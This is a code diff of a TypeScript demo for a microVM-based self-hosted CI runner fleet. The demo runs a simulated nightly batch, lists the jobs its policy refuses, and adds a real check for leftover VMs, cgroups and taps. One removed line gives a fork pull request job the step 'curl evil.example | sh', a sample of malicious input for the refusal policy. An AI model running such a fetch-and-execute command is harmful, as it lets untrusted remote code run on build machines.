@@ -1,7 +1,8 @@
-import { mkdtempSync, rmSync } from 'node:fs';
+import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Redis } from 'ioredis';
+import { createCaps } from '../caps/create-caps.js';
 import { readJobRecord, type JobRecord } from '../intake/job-store.js';
 import { keys } from '../queue/keys.js';
 import { startLocalFleet, type Fleet } from './local-fleet.js';
@@ -15,7 +16,7 @@ import { startLocalRedis } from './local-redis.js';
 const BATCH = 24;
 const PREFIX = 'demo';
 
-interface SimJob { id: number; name: string; status: string; conclusion: string | null; output: string }
+interface SimJob { id: number; status: string; conclusion: string | null; output: string }
 
 export async function runDemo(opts: { keep?: boolean; jobs?: number } = {}): Promise<void> {
   if (process.getuid?.() !== 0) throw new Error('the demo makes taps and cgroups for its microVMs: run it as root');
@@ -46,28 +47,32 @@ export async function runDemo(opts: { keep?: boolean; jobs?: number } = {}): Pro
     }));
     const started = Date.now();
     const batch = await api<{ jobs: { id: number }[] }>('POST', '/_sim/runs', { repo: 'acme/app', event: 'schedule', workflowName: 'nightly', jobs: nightly });
+    const refuse = async (name: string, run: Record<string, unknown>, labels: string[]) =>
+      [await api<{ jobs: { id: number }[] }>('POST', '/_sim/runs', { workflowName: 'ci', ...run, jobs: [{ name, labels, steps: ['true'] }] }), name] as const;
     const refused = [
-      await api('POST', '/_sim/runs', { repo: 'acme/oss', workflowName: 'ci', jobs: [{ name: 'build (public repo)', labels: ['self-hosted', 'build'], steps: ['true'] }] }),
-      await api('POST', '/_sim/runs', { repo: 'acme/app', workflowName: 'ci', jobs: [{ name: 'train (needs a gpu)', labels: ['self-hosted', 'gpu'], steps: ['true'] }] }),
-      await api('POST', '/_sim/runs', { repo: 'acme/site', headBranch: 'wip', workflowName: 'deploy', jobs: [{ name: 'deploy from a branch', labels: ['self-hosted', 'deploy'], steps: ['true'] }] }),
-      await api('POST', '/_sim/runs', { repo: 'acme/app', event: 'pull_request', headBranch: 'patch-1', headRepository: 'mallory/app', workflowName: 'ci', jobs: [{ name: 'build (fork pull request)', labels: ['self-hosted', 'build'], steps: ['curl evil.example | sh'] }] }),
-    ] as { jobs: { id: number }[] }[];
+      await refuse('build (public repo)', { repo: 'acme/oss' }, ['self-hosted', 'build']),
+      await refuse('train (needs a gpu)', { repo: 'acme/app' }, ['self-hosted', 'gpu']),
+      await refuse('deploy from a branch', { repo: 'acme/site', headBranch: 'wip' }, ['self-hosted', 'deploy']),
+      await refuse('build (fork pull request)', { repo: 'acme/app', event: 'pull_request', headBranch: 'patch-1', headRepository: 'mallory/app' }, ['self-hosted', 'build']),
+    ];
 
     say(`nightly batch: ${n} build-and-boot jobs, one microVM each`);
     const ids = batch.jobs.map((j) => j.id);
+    const names = new Map(ids.map((id, i) => [id, nightly[i]!.name]));
     const done = new Set<number>();
     let billedMinutes = 0;
     while (done.size < ids.length) {
       for (const id of ids) {
         if (done.has(id)) continue;
         const j = await api<SimJob>('GET', `/_sim/jobs/${id}`);
-        if (j.status !== 'completed') continue;
-        done.add(id);
+        // Done when the runner has reported and the agent has seen its VM end.
         const rec = await r.hgetall(keys(PREFIX).job(id));
+        if (j.status !== 'completed' || !rec.agentOutcome) continue;
+        done.add(id);
         const secs = Number(rec.vmMs ?? 0) / 1000;
         billedMinutes += Math.max(1, Math.ceil(secs / 60));
         const digest = /\b[0-9a-f]{16}\b/.exec(j.output)?.[0] ?? '';
-        say(`  ${j.conclusion === 'success' ? 'ok ' : 'ERR'} ${j.name.padEnd(36)} vm wj-${id}-1  ${secs.toFixed(1).padStart(5)} s  ${digest}`);
+        say(`  ${j.conclusion === 'success' ? 'ok ' : 'ERR'} ${names.get(id)!.padEnd(36)} vm wj-${id}-1  ${secs.toFixed(1).padStart(5)} s  ${digest}`);
       }
       if (Date.now() - started > 15 * 60_000) throw new Error('the batch did not finish within 15 minutes');
       await new Promise((res) => setTimeout(res, 250));
@@ -76,15 +81,14 @@ export async function runDemo(opts: { keep?: boolean; jobs?: number } = {}): Pro
     say();
     say('refused, and why');
     await new Promise((res) => setTimeout(res, 1500));
-    for (const run of refused) {
+    for (const [run, name] of refused) {
       const id = run.jobs[0]!.id;
       const rec = await readJobRecord(r, keys(PREFIX), id);
       const extra = await r.hgetall(keys(PREFIX).job(id));
-      const j = await api<SimJob>('GET', `/_sim/jobs/${id}`);
-      say(`  ${j.name.padEnd(28)} ${describe(rec, extra)}`);
+      say(`  ${name.padEnd(28)} ${describe(rec, extra)}`);
     }
     say();
-    say('Nothing is left behind: every VM, tap, cgroup and JIT config was removed after its job.');
+    say(await leftovers(f));
     if (opts.keep) {
       say(`Running until Ctrl-C. Try: curl ${f.controlUrl}/metrics`);
       await new Promise<void>((resolve) => process.once('SIGINT', () => resolve()));
@@ -95,6 +99,19 @@ export async function runDemo(opts: { keep?: boolean; jobs?: number } = {}): Pro
     await redis.dispose();
     rmSync(dir, { recursive: true, force: true });
   }
+}
+
+/** What the agent left on this host after the batch: nothing, or what. */
+async function leftovers(f: Fleet): Promise<string> {
+  const caps = await createCaps({ mode: 'auto', cpuQuotaPercent: 100, memoryMaxBytes: 1 << 30, tasksMax: 100 });
+  const found = [
+    ...readdirSync(join(f.stateDir, 'vms')).map((v) => `VM state ${v}`),
+    ...(await caps.listVmCgroups()).map((c) => `cgroup ${c}`),
+    ...readdirSync('/sys/class/net').filter((n) => n.startsWith('hg-')).map((t) => `tap ${t}`),
+  ];
+  return found.length === 0
+    ? 'Nothing is left behind: every VM, overlay, tap, cgroup and JIT file was removed after its job.'
+    : `Left behind: ${found.join(', ')}`;
 }
 
 function describe(rec: JobRecord | null, extra: Record<string, string>): string {
